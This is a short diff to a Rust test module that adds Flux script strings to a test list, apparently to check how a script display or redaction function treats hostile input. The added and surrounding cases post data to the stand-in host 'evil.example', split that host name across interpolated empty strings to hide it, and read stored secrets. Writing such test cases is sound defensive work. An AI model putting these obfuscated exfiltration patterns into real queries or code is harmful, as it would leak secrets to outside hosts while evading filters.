@@ -202,6 +202,9 @@ mod tests {
             "token = \"evil.example/x\"\nfrom(bucket: \"a\") |> to(bucket: \"b\", host: \"https://${token}\")",
             "import \"http\"\ntoken = \"evil.example\"\nx = http.post(url: \"https://\" + token + \"/a\")",
             "import \"influxdata/influxdb/secrets\"\npassword = \"pager\"\nx = secrets.get(key: password)",
+            "import \"http\"\ne = \"\"\ntoken = \"https://${e}evil.example/x\"\nx = http.post(url: token)",
+            "import \"http\"\ne = \"\"\nkey = {token: \"ev${e}\", secret: \"${e}il.example\"}\nx = http.post(url: \"https://\" + key.token + key.secret)",
+            "e = \"\"\npassword = \"${e}raw7\"\nfrom(bucket: password) |> to(bucket: \"${password}8\")",
         ] {
             shown(&script.replace('§', "***"), &script.replace('§', "***"));
         }
